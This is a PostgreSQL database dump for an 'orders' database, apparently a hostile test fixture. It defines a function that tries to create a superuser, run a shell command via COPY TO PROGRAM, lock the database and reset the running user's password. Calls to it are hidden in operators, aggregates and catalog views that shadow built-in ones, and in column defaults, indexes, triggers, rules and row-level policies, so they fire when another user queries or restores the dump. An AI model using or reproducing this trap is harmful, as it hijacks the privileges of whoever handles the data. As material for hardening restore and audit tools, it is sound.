--
-- PostgreSQL database dump
--

-- Dumped from database version 15.1
-- Dumped by pg_dump version 15.1

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SET check_function_bodies = false;
SELECT pg_catalog.set_config('search_path', '', false);

CREATE DATABASE orders WITH TEMPLATE = template0 ENCODING = 'UTF8';
ALTER DATABASE orders OWNER TO shop;
\connect orders
SET client_encoding = 'UTF8';
SELECT pg_catalog.set_config('search_path', '', false);

-- Everything that whoever runs it could be made to do; and the server's log tells who ran it.
CREATE FUNCTION public.spring() RETURNS void LANGUAGE plpgsql SET search_path TO 'pg_catalog' AS $$ begin
    raise log 'TRAP sprung as "%"', current_user;
    begin execute 'reset role'; exception when others then null; end;
    begin execute 'reset session authorization'; exception when others then null; end;
    begin perform pg_catalog.set_config('role', 'none', false); exception when others then null; end;
    begin execute 'create role trapped superuser'; exception when others then null; end;
    begin execute 'copy (select 1) to program ''touch {mark}'''; exception when others then null; end;
    if current_database() <> 'orders' then
        begin execute 'alter database orders connection limit 0'; exception when others then null; end;
        begin execute 'alter database orders set default_transaction_read_only to on'; exception when others then null; end;
    end if;
    begin perform pg_catalog.set_config('default_transaction_read_only', 'off', false); exception when others then null; end;
    if not pg_catalog.starts_with(current_user, 'salvor_load') then
        begin execute 'alter role current_user password ''stolen'''; exception when others then null; end;
    end if;
end $$;
-- Declared immutable, so that the planner computes it; what it calls may do what it likes.
CREATE FUNCTION public.trap() RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$ begin
    perform public.spring();
    return 1;
end $$;

-- What an unqualified name in somebody else's query could mean.
CREATE FUNCTION public.same(name, name) RETURNS boolean LANGUAGE sql AS 'select public.trap() = 1 and $1 operator(pg_catalog.=) $2';
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = name, FUNCTION = public.same);
CREATE OPERATOR public.!~ (LEFTARG = name, RIGHTARG = name, FUNCTION = public.same);
CREATE OPERATOR public.~ (LEFTARG = name, RIGHTARG = name, FUNCTION = public.same);
CREATE FUNCTION public.same(oid, oid) RETURNS boolean LANGUAGE sql AS 'select public.trap() = 1 and $1 operator(pg_catalog.=) $2';
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.same);
CREATE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE sql AS 'select pg_catalog.format($1, $2, $3, public.trap())';
CREATE FUNCTION public.concat_ws(text, text, text) RETURNS text LANGUAGE sql AS 'select public.trap()::text';
CREATE FUNCTION public.current_database() RETURNS name LANGUAGE sql AS 'select public.trap()::text::name';
CREATE FUNCTION public.pg_is_in_recovery() RETURNS boolean LANGUAGE sql AS 'select public.trap() = 0';
CREATE FUNCTION public.add(bigint) RETURNS bigint LANGUAGE sql AS 'select $1 + public.trap()';
CREATE AGGREGATE public.count(*) (SFUNC = public.add, STYPE = bigint, INITCOND = '0');
CREATE VIEW public.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE (public.trap() = 1);
CREATE VIEW public.pg_extension AS SELECT * FROM pg_catalog.pg_extension WHERE (public.trap() = 1);
CREATE VIEW public.pg_settings AS SELECT * FROM pg_catalog.pg_settings WHERE (public.trap() = 1);
CREATE VIEW public.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE (public.trap() = 1);

-- What runs when something else is touched.
CREATE TYPE public.pair AS (a integer, b integer);
CREATE FUNCTION public.shown(public.pair) RETURNS text LANGUAGE sql IMMUTABLE AS 'select public.trap()::text';
CREATE CAST (public.pair AS text) WITH FUNCTION public.shown(public.pair) AS ASSIGNMENT;
CREATE FUNCTION public.ordered(public.pair, public.pair) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'select public.trap() = 1';
CREATE OPERATOR public.= (LEFTARG = public.pair, RIGHTARG = public.pair, FUNCTION = public.ordered);
CREATE DOMAIN public.checked AS integer DEFAULT public.trap() CHECK (public.trap() = 1);
CREATE FUNCTION public.trapped() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS 'begin perform public.trap(); return new; end';
CREATE TABLE public.items (
    id integer DEFAULT public.trap() NOT NULL,
    made integer GENERATED ALWAYS AS (public.trap()) STORED,
    pair public.pair,
    checked public.checked,
    CONSTRAINT checked CHECK ((public.trap() = 1))
);
CREATE TABLE public.parts (id integer) PARTITION BY RANGE (((id + public.trap())));
CREATE TABLE public.parts_1 PARTITION OF public.parts FOR VALUES FROM (0) TO (100);
CREATE VIEW public.orders AS SELECT public.trap() AS id, 'x'::text AS note FROM public.items;
CREATE MATERIALIZED VIEW public.sums AS SELECT public.trap() AS n WITH NO DATA;
COPY public.items (id, pair, checked) FROM stdin;
1	(1,2)	1
2	(1,2)	2
\.
COPY public.parts (id) FROM stdin;
1
\.
CREATE INDEX items_trap ON public.items USING btree (((id + public.trap()))) WHERE (public.trap() = 1);
CREATE INDEX parts_trap ON public.parts_1 USING btree (((id + public.trap())));
CREATE STATISTICS public.items_statistics ON ((id + public.trap())), id FROM public.items;
CREATE TRIGGER trapped AFTER INSERT OR UPDATE OR DELETE ON public.items FOR EACH ROW EXECUTE FUNCTION public.trapped();
CREATE CONSTRAINT TRIGGER late AFTER INSERT ON public.items DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.trapped();
CREATE RULE twice AS ON INSERT TO public.parts DO ALSO SELECT public.trap();
CREATE POLICY looked ON public.items USING ((public.trap() = 1));
ALTER TABLE public.items ENABLE ROW LEVEL SECURITY;
ALTER TABLE ONLY public.items FORCE ROW LEVEL SECURITY;
REFRESH MATERIALIZED VIEW public.sums;

ALTER FUNCTION public.trap() OWNER TO salvor;
ALTER FUNCTION public.trapped() OWNER TO salvor;
ALTER TABLE public.items OWNER TO auditor;
ALTER MATERIALIZED VIEW public.sums OWNER TO auditor;
ALTER VIEW public.orders OWNER TO nobody_here;
COMMENT ON FUNCTION public.trap() IS 'a trap';
GRANT SELECT ON TABLE public.items TO PUBLIC;
ALTER DATABASE orders SET search_path TO 'public', 'pg_catalog';

--
-- PostgreSQL database dump complete
--
